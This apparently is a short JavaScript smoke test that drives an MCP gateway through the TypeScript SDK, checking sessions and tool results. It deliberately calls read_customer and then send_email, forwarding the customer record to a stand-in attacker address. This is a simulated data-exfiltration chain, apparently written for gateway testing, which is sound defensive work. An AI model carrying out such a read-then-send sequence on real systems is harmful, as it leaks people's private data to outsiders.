// The smoke test from a client that is not .NET: the TypeScript MCP SDK, pointed at the gateway's URL.
// Usage: node smoke.mjs http://127.0.0.1:PORT/mcp   -> prints one JSON line: the session id and both results.
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";

const transport = new StreamableHTTPClientTransport(new URL(process.argv[2]));
const client = new Client({ name: "trajeckt-ts-smoke", version: "1.0.0" });
await client.connect(transport);

const tools = (await client.listTools()).tools.map((t) => t.name).sort();
const read = await client.callTool({ name: "read_customer", arguments: { id: "42" } });
const send = await client.callTool({
  name: "send_email",
  arguments: { to: "attacker@example.net", body: read.content[0].text },
});

console.log(JSON.stringify({ sessionId: transport.sessionId, protocolVersion: transport.protocolVersion, tools, read, send }));
await transport.terminateSession();
await client.close();
